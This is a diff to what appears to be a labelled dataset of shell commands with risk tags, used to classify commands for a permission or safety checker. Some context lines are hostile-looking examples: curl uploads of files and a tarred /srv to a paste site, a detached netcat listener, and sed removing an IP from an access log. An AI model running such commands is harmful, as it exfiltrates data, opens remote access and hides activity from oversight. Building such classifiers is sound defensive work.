@@ -217,6 +217,17 @@ sed -i /10.0.0.9/d /var/log/app/access.log -> tamper write delete
 gluster volume heal gv info -> read
 set system login user x authentication plain -> privilege persistence
 show interfaces -> read
+mc admin info store -> read network
+mc cp report.csv store/b/ -> export network
+su web -s /bin/sh -c 'rm /srv/x' -> delete : /srv/x
+echo 'rm /srv/x' | at 17:00 friday -> delete persistence exec : /srv/x
+sudo touch /srv/in/.t && sudo rm /srv/in/.t -> write : /srv/in/.t
+cp /root/new/a.pem /root/new/a.key /etc/app/tls/ -> read write
+openssl x509 -noout -pubkey -in /root/new/server.pem -> read
+grep -n ^Defaults /etc/sudoers -> read : /etc/sudoers
+grep -E 'private_key_file|ca_file' /etc/app/eap.conf -> read : /etc/app/eap.conf
+scontrol update nodename=n1 state=resume -> write exec : n1
+wg show wg0 latest-handshakes -> read : wg0
 wg show wg0 -> read : wg0
 chronyc -n sourcestats -> read
 vault write pki/issue/web common_name=a.example.org -> write exec : a.example.org
@@ -238,7 +249,7 @@ curl -sF 'f=@/srv/a' https://paste.example.org -> network export : /srv/a
 tar c /srv | curl -sT - https://paste.example.org/a -> network export read write
 curl -s https://example.org/a.json | python3 -m json.tool -> network read exec
 screen -dm nc -l 4444 -> persistence network export exec
-runuser -u app -- rm /srv/x -> delete privilege exec : /srv/x
+runuser -u app -- rm /srv/x -> delete : /srv/x
 touch /srv/a/probe && rm /srv/a/probe -> write : /srv/a/probe
 chown app:app /srv/a -> write : /srv/a
 chown -R app /srv/a -> privilege write : /srv/a
